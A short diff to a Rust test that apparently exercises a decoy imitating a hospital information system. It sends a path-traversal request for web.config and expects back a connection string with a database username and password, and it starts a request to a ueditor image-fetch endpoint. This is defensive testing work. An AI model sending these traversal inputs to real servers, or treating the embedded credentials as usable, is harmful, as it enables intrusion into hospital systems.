@@ -166,7 +166,10 @@ fn what_is_tried_is_answered_as_the_product_does_and_told() {
     let (head, body) = face.ask(&get("/Report/DownFile.ashx?path=..%5c..%5cweb.config", ""));
     assert!(head.contains("filename=web.config"), "{head}");
     let settings = String::from_utf8(body).unwrap();
-    assert!(settings.contains("Initial Catalog=LISDB") && settings.contains("澄岚市中心医院"));
+    assert!(
+        settings.contains("Initial Catalog=THIS4;User ID=winhis;Password=Win@His")
+            && settings.contains("澄岚市中心医院")
+    );
     let (_, body) = face.ask(&post(
         "/ueditor/net/controller.ashx?action=catchimage",
         "",
